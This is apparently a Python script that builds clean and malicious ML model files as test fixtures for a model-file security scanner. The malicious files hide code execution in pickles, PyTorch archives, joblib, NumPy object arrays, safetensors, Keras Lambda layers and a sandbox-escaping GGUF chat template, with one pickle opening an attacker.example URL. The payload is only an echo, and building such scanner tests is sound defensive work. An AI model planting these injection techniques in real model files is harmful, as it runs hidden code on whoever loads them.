"""Model files for `chainwatch audit model`'s tests and benchmark, made with the real
libraries (NumPy, safetensors, joblib, scikit-learn, gguf, h5py), in OUT/clean and
OUT/malicious. Usage: python model_fixtures.py OUT [--large]

PyTorch's wheel is too large for this machine's limits, so its two formats are written
here the way `torch.save` writes them (the zip layout `archive/data.pkl`,
`archive/data/N`, `archive/version`, and the legacy five pickles followed by storage
bytes), with the same globals (`torch._utils._rebuild_tensor_v2`, `torch.FloatStorage`,
`collections.OrderedDict`) and persistent ids. Nothing made here is ever loaded: the
malicious files would run `echo` if they were.
"""

import base64
import collections
import io
import os
import pickle
import struct
import sys
import types
import zipfile

import numpy as np

OUT = sys.argv[1]
LARGE = "--large" in sys.argv
CLEAN = os.path.join(OUT, "clean")
BAD = os.path.join(OUT, "malicious")
os.makedirs(CLEAN, exist_ok=True)
os.makedirs(BAD, exist_ok=True)
PAYLOAD = "echo chainwatch-model-fixture"


def path(kind, name):
    return os.path.join(CLEAN if kind == "clean" else BAD, name)


# --- a stand-in `torch` module, so that pickle writes torch's own global names --------
# (installed in sys.modules only while pickling: other libraries probe for torch)
torch = types.ModuleType("torch")
torch_utils = types.ModuleType("torch._utils")


class fake_torch:
    def __enter__(self):
        sys.modules["torch"] = torch
        sys.modules["torch._utils"] = torch_utils

    def __exit__(self, *exc):
        del sys.modules["torch"]
        del sys.modules["torch._utils"]


def _rebuild_tensor_v2(*args):
    raise RuntimeError("never called")


_rebuild_tensor_v2.__module__ = "torch._utils"
_rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
torch_utils._rebuild_tensor_v2 = _rebuild_tensor_v2
torch._utils = torch_utils


class FloatStorage:
    pass


FloatStorage.__module__ = "torch"
torch.FloatStorage = FloatStorage


class Storage:
    def __init__(self, key, data):
        self.key = key
        self.data = data


class Tensor:
    def __init__(self, storage, shape):
        self.storage = storage
        self.shape = shape

    def __reduce_ex__(self, protocol):
        stride = []
        acc = 1
        for d in reversed(self.shape):
            stride.insert(0, acc)
            acc *= d
        return (
            _rebuild_tensor_v2,
            (self.storage, 0, tuple(self.shape), tuple(stride), False, collections.OrderedDict()),
        )


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", FloatStorage, obj.key, "cpu", obj.data.size)
        return None


def state_dict(layers, extra=None):
    """An OrderedDict of float32 tensors like a model's state_dict, and its storages."""
    sd = collections.OrderedDict()
    storages = []
    for i, (name, shape) in enumerate(layers):
        data = np.random.default_rng(i).standard_normal(int(np.prod(shape))).astype("<f4")
        st = Storage(str(i), data)
        storages.append(st)
        sd[name] = Tensor(st, shape)
    if extra is not None:
        sd["_extra"] = extra
    return sd, storages


def torch_zip(dest, obj, storages, prefix="archive"):
    buf = io.BytesIO()
    with fake_torch():
        TorchPickler(buf, protocol=2).dump(obj)
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", buf.getvalue())
        z.writestr(f"{prefix}/byteorder", "little")
        for st in storages:
            z.writestr(f"{prefix}/data/{st.key}", st.data.tobytes())
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "0123456789")


def torch_legacy(dest, obj, storages):
    with open(dest, "wb") as f:
        p = lambda o: pickle.dump(o, f, protocol=2)  # noqa: E731
        p(0x1950A86A20F9469CFC6C)
        p(1001)
        p({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
        with fake_torch():
            TorchPickler(f, protocol=2).dump(obj)
        p([st.key for st in storages])
        for st in storages:
            f.write(struct.pack("<q", st.data.size))
            f.write(st.data.tobytes())


RESNET = [("conv1.weight", (16, 3, 3, 3)), ("bn1.weight", (16,)), ("bn1.bias", (16,)), ("fc.weight", (10, 64)), ("fc.bias", (10,))]
BERT = [("embeddings.word_embeddings.weight", (512, 32)), ("encoder.layer.0.attention.self.query.weight", (32, 32)), ("encoder.layer.0.attention.self.query.bias", (32,)), ("pooler.dense.weight", (32, 32))]
GPT = [("transformer.wte.weight", (256, 48)), ("transformer.h.0.attn.c_attn.weight", (48, 144)), ("transformer.h.0.mlp.c_fc.weight", (48, 192)), ("lm_head.weight", (256, 48))]


# --- payloads ------------------------------------------------------------------------------
class System:
    def __reduce__(self):
        return (os.system, (PAYLOAD,))


class ExecBase64:
    def __reduce__(self):
        code = base64.b64encode(f"import os; os.system({PAYLOAD!r})".encode()).decode()
        return (exec, (f"import base64; exec(base64.b64decode({code!r}))",))


class Popen:
    def __reduce__(self):
        import subprocess

        return (subprocess.Popen, (["sh", "-c", PAYLOAD],))


class RunPy:
    def __reduce__(self):
        import runpy

        return (runpy._run_code, (f"import os; os.system({PAYLOAD!r})", {}))


class Browser:
    def __reduce__(self):
        import webbrowser

        return (webbrowser.open, ("https://attacker.example/",))


def getattr_builtins_pickle():
    """getattr(__import__('os'), 'system')(PAYLOAD), written opcode by opcode (protocol 4)."""
    def s(t):
        b = t.encode()
        return b"\x8c" + bytes([len(b)]) + b
    body = b"".join([
        s("builtins"), s("getattr"), b"\x93",
        s("builtins"), s("__import__"), b"\x93", s("os"), b"\x85R",
        s("system"), b"\x86R",
        s(PAYLOAD), b"\x85R.",
    ])
    return b"\x80\x04" + body


def marshal_code():
    """A lambda's bytecode, marshalled as Keras stores Lambda layers."""
    import marshal

    return marshal.dumps((lambda x: __import__("os").system(PAYLOAD)).__code__)


def main():
    # Clean files.
    for name, layers in [("resnet", RESNET), ("bert", BERT), ("gpt2", GPT)]:
        sd, st = state_dict(layers)
        torch_zip(path("clean", f"{name}.pt"), sd, st)
    sd, st = state_dict(RESNET)
    torch_legacy(path("clean", "resnet-legacy.pth"), sd, st)

    from safetensors.numpy import save_file

    for name, layers in [("resnet", RESNET), ("bert", BERT), ("gpt2", GPT)]:
        tensors = {n: np.random.default_rng(1).standard_normal(s).astype(np.float16 if name == "bert" else np.float32) for n, s in layers}
        save_file(tensors, path("clean", f"{name}.safetensors"), metadata={"format": "pt"})

    np.save(path("clean", "weights.npy"), np.arange(1000, dtype="<f8").reshape(10, 100))
    np.savez(path("clean", "arrays.npz"), a=np.zeros((4, 4)), b=np.arange(10))
    for protocol in range(0, 6):
        with open(path("clean", f"state-p{protocol}.pkl"), "wb") as f:
            pickle.dump({"weights": np.ones((3, 3), dtype="<f4"), "epoch": 3, "names": ["a", "b"]}, f, protocol=protocol)

    import joblib
    from sklearn.datasets import make_classification
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    X, y = make_classification(n_samples=200, n_features=8, random_state=0)
    joblib.dump(make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y), path("clean", "pipeline.joblib"))
    joblib.dump(RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y), path("clean", "forest.joblib"))
    joblib.dump({"w": np.ones((64, 64)), "labels": np.array(["x", "y"], dtype=object)}, path("clean", "arrays.joblib.gz"), compress=("gzip", 3))
    with open(path("clean", "forest.pkl"), "wb") as f:
        pickle.dump(RandomForestClassifier(n_estimators=3, random_state=0).fit(X, y), f)

    import gguf

    chatml = (
        "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
        "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    )
    w = gguf.GGUFWriter(path("clean", "tiny-llama.gguf"), "llama")
    w.add_name("tiny-llama")
    w.add_chat_template(chatml)
    w.add_context_length(2048)
    w.add_tensor("token_embd.weight", np.zeros((32, 64), dtype=np.float32))
    w.add_tensor("output.weight", np.ones((32, 64), dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()

    import json

    import h5py

    dense = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "name": "in"}},
        {"class_name": "Dense", "config": {"units": 4, "activation": "relu", "name": "d"}}]},
        "keras_version": "2.12.0", "backend": "tensorflow"}
    with h5py.File(path("clean", "dense.h5"), "w") as h:
        h.attrs["model_config"] = json.dumps(dense)
        h.create_dataset("model_weights/d/kernel", data=np.zeros((8, 4)))

    # Keras 3 archives as `model.save` writes them (config.json, metadata.json,
    # model.weights.h5): Keras 3 needs a JAX, TensorFlow or PyTorch backend to save, and none
    # installs here within limits.
    def keras_archive(dest, layers):
        config = {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "layers": layers}, "registered_name": None}
        weights = io.BytesIO()
        with h5py.File(weights, "w") as h:
            h.create_dataset("layers/dense/vars/0", data=np.zeros((8, 4)))
        with zipfile.ZipFile(dest, "w") as z:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-12-07@00:00:00"}))
            z.writestr("config.json", json.dumps(config))
            z.writestr("model.weights.h5", weights.getvalue())

    k3_input = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 8], "dtype": "float32", "name": "input_layer"}, "registered_name": None}
    k3_dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}, "registered_name": None, "build_config": {"input_shape": [None, 8]}}
    keras_archive(path("clean", "dense-k3.keras"), [k3_input, k3_dense])
    lam_code = base64.b64encode(marshal_code()).decode()
    k3_lambda = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": lam_code, "defaults": None, "closure": None}}}, "registered_name": None}
    keras_archive(path("bad", "lambda-k3.keras"), [k3_input, k3_lambda])
    k3_custom = {"module": "evil_layers", "class_name": "Backdoor", "config": {"name": "backdoor"}, "registered_name": "Custom>Backdoor"}
    keras_archive(path("bad", "custom-object.keras"), [k3_input, k3_custom])

    # Malicious files.
    for protocol in range(0, 6):
        with open(path("bad", f"system-p{protocol}.pkl"), "wb") as f:
            pickle.dump({"weights": [1.0, 2.0], "hook": System()}, f, protocol=protocol)
    with open(path("bad", "exec-base64.pkl"), "wb") as f:
        pickle.dump(ExecBase64(), f, protocol=4)
    with open(path("bad", "popen.pkl"), "wb") as f:
        pickle.dump(Popen(), f, protocol=2)
    with open(path("bad", "runpy.pkl"), "wb") as f:
        pickle.dump(RunPy(), f, protocol=3)
    with open(path("bad", "webbrowser.pkl"), "wb") as f:
        pickle.dump(Browser(), f, protocol=4)
    with open(path("bad", "getattr-builtins.pkl"), "wb") as f:
        f.write(getattr_builtins_pickle())
    sd, st = state_dict(RESNET, extra=System())
    torch_zip(path("bad", "resnet-system.pt"), sd, st)
    sd, st = state_dict(BERT, extra=ExecBase64())
    torch_zip(path("bad", "bert-exec.bin"), sd, st, prefix="pytorch_model")
    sd, st = state_dict(RESNET, extra=System())
    torch_legacy(path("bad", "resnet-legacy-system.pth"), sd, st)
    joblib.dump({"w": np.ones((64, 64)), "hook": System()}, path("bad", "arrays-system.joblib"))
    joblib.dump({"w": np.ones((64, 64)), "hook": Popen()}, path("bad", "arrays-popen.joblib.gz"), compress=("gzip", 3))
    joblib.dump([make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y), RunPy()], path("bad", "pipeline-runpy.joblib"))
    np.save(path("bad", "object-array.npy"), np.array([1, System()], dtype=object), allow_pickle=True)
    whole = pickle.dumps(System(), protocol=2)
    with open(path("bad", "truncated.pkl"), "wb") as f:
        f.write(whole[: whole.index(b"R") + 1])
    with open(path("bad", "corrupt-after-payload.pkl"), "wb") as f:
        f.write(whole[:-1] + b"\xfe\xfe\xfe")

    # safetensors with a pickle after the last tensor, and with overlapping tensors.
    from safetensors.numpy import save

    blob = save({"w": np.zeros((4, 4), dtype=np.float32)})
    with open(path("bad", "trailing-pickle.safetensors"), "wb") as f:
        f.write(blob + pickle.dumps(System(), protocol=4))
    header = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}).encode()
    with open(path("bad", "overlap.safetensors"), "wb") as f:
        f.write(struct.pack("<Q", len(header)) + header + bytes(24))

    # GGUF whose chat template escapes the Jinja sandbox (the shape of CVE-2024-34359).
    evil = (
        "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
        "{{ x()._module.__builtins__['__import__']('os').popen('" + PAYLOAD + "').read() }}{% endif %}{% endfor %}"
    )
    w = gguf.GGUFWriter(path("bad", "template-injection.gguf"), "llama")
    w.add_name("tiny-llama")
    w.add_chat_template(evil)
    w.add_tensor("token_embd.weight", np.zeros((32, 64), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()

    # Keras 2 HDF5 with a Lambda layer (its marshalled bytecode, base64, as Keras 2 stores it).
    code = base64.b64encode(marshal_code()).decode()
    lam = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 8], "name": "in"}},
        {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None], "function_type": "lambda"}}]},
        "keras_version": "2.12.0", "backend": "tensorflow"}
    with h5py.File(path("bad", "lambda.h5"), "w") as h:
        h.attrs["model_config"] = json.dumps(lam)
        h.create_dataset("model_weights/d/kernel", data=np.zeros((8, 4)))

    if LARGE:
        large()


def large():
    """About 1 GB each: safetensors, GGUF and a PyTorch zip, for the speed targets."""
    from safetensors.numpy import save_file

    n = 256
    tensors = {f"layers.{i}.weight": np.zeros((1024, 1024), dtype=np.float32) for i in range(n)}
    save_file(tensors, os.path.join(OUT, "large.safetensors"))
    import gguf

    w = gguf.GGUFWriter(os.path.join(OUT, "large.gguf"), "llama")
    w.add_name("large")
    for i in range(n):
        w.add_tensor(f"blk.{i}.weight", np.zeros((1024, 1024), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    layers = [(f"layers.{i}.weight", (1024, 1024)) for i in range(n)]
    sd = collections.OrderedDict()
    storages = []
    for i, (name, shape) in enumerate(layers):
        st = Storage(str(i), np.zeros(shape[0] * shape[1], dtype="<f4"))
        storages.append(st)
        sd[name] = Tensor(st, shape)
    torch_zip(os.path.join(OUT, "large.pt"), sd, storages)


if __name__ == "__main__":
    main()
